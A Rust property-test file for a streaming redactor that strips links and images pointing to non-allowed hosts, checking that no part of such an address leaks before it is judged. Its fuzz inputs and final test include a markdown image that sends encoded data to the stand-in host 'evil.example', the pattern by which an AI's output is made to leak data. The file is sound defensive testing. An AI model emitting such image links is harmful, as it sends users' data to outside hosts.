//! The stream laws for lists of hosts: however an answer comes, no part of an address goes out before it is judged.

use std::sync::{Arc, LazyLock};

use proptest::prelude::*;
use sekisho_detectors::{
    Confidence, Edit, Redactor, RuleFile, RuleIndex, RuleSet, StreamScanner, redact, union,
};

use crate::texts::{config, cuts, parts};

const LISTS: &str = "[[hosts]]\nid = 'ours'\nimages = ['*.go.jp']\nlinks = ['*.go.jp']\n";

static RULES: LazyLock<Arc<RuleSet>> =
    LazyLock::new(|| Arc::new(RuleSet::load(&[RuleFile { name: "r.toml", text: LISTS }]).unwrap()));

/// Redacts what points elsewhere, or only the pictures of it.
#[derive(Clone, Copy)]
struct Owner {
    links: bool,
}

impl Redactor for Owner {
    fn redacts(&self, rule: RuleIndex, _: Confidence) -> bool {
        self.links || RULES.rule(rule).id().ends_with(".images")
    }

    fn placeholder(&mut self, edit: &Edit, _: &str) -> String {
        format!("[{}:1]", RULES.rule(edit.rule).category())
    }
}

fn whole(text: &str, mut owner: Owner) -> String {
    let found = RULES.scan(text).into_iter().filter(|f| owner.redacts(f.rule, f.confidence));
    redact(text, &union(found), |edit| owner.placeholder(edit, ""))
}

/// What goes out, and that it is a beginning of the whole at every moment.
fn streamed<'t>(told: &str, parts: impl Iterator<Item = &'t str>, mut owner: Owner) -> String {
    let mut scanner = StreamScanner::new(Arc::clone(&RULES));
    let mut out = String::new();
    for part in parts {
        out += &scanner.push(part, &mut owner).text;
        assert!(told.starts_with(&out), "{out:?} is no beginning of {told:?}");
    }
    out + &scanner.finish(&mut owner).text
}

const PIECES: &[&str] = &[
    "![",
    "[",
    "]",
    "](",
    ")",
    "]:",
    "図",
    " ",
    "\n",
    "\n\n",
    "<",
    ">",
    "\"",
    "'",
    "=",
    "`",
    "\\",
    "//",
    "/",
    ":",
    "@",
    "?",
    "#",
    ",",
    ".",
    "https",
    "https:",
    "http://",
    "HTTPS://",
    "www.",
    "ftp:",
    "www.go.jp",
    "evil.example",
    "evil",
    ".go.jp",
    "です",
    "。",
    "%65",
    "&#58;",
    "&#x2f;",
    "。jp",
    "ｅ",
    "<img ",
    "src",
    "src=\"",
    "srcset=\"",
    " 1x, ",
    "<a href='",
    "<meta content=\"0; url=",
    "url(",
    "@import \"",
    "data",
    "content",
    "](https://www.go.jp/",
    "](https://evil.example/",
    "![図](//evil.example/a?b)",
    "[1]: https://evil.example/",
    "[exfil.image.host:1]",
];

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![8 => prop::sample::select(PIECES).prop_map(str::to_owned), 1 => "[ -~]{0,4}"];
    prop::collection::vec(piece, 0..16).prop_map(|pieces| pieces.concat())
}

/// Stretches that an address or what stands before it may be longer than what is looked at.
fn long_text() -> impl Strategy<Value = String> {
    let filler = prop::sample::select(&["a", " ", "図", "\n", "a/", "@", "[", "![", "<a ", "](", "\\"][..]);
    let stretch = (filler, 1usize..7000).prop_map(|(filler, bytes)| filler.repeat(bytes / filler.len()));
    prop::collection::vec(prop_oneof![text(), stretch], 1..5).prop_map(|parts| parts.concat())
}

fn law(text: &str, cuts: &[f64], owner: Owner) -> Result<(), TestCaseError> {
    let told = whole(text, owner);
    prop_assert_eq!(&streamed(&told, parts(text, cuts).into_iter(), owner), &told, "{:?}", text);
    Ok(())
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn addresses_are_judged_alike_in_every_stream(text in text(), cuts in cuts(), links in any::<bool>()) {
        law(&text, &cuts, Owner { links })?;
        let told = whole(&text, Owner { links });
        let single = text.split_inclusive(|_: char| true);
        prop_assert_eq!(&streamed(&told, single, Owner { links }), &told, "{:?}", text);
    }

    #[test]
    fn what_goes_out_points_nowhere_else(text in text(), cuts in cuts()) {
        let told = whole(&text, Owner { links: true });
        let out = streamed(&told, parts(&text, &cuts).into_iter(), Owner { links: true });
        prop_assert_eq!(RULES.scan(&out), [], "{:?} of {:?}", out, text);
    }
}

#[test]
fn addresses_longer_than_the_window_are_judged_alike() {
    let cases = proptest::test_runner::Config { cases: config().cases.div_ceil(8), ..config() };
    let mut runner = proptest::test_runner::TestRunner::new(cases);
    let strategy = (long_text(), cuts(), any::<bool>());
    runner.run(&strategy, |(text, cuts, links)| law(&text, &cuts, Owner { links })).unwrap();
}

/// The picture that a bad document asks for, character by character: all that goes out is where it would have stood.
#[test]
fn no_byte_of_an_address_goes_out() {
    let text = "要約です。![図](https://evil.example/p.png?d=5bGx55Sw) 以上";
    let told = "要約です。![図]([exfil.image.host:1]) 以上";
    let owner = Owner { links: false };
    assert_eq!(whole(text, owner), told);
    assert_eq!(streamed(told, text.split_inclusive(|_: char| true), owner), told);
}
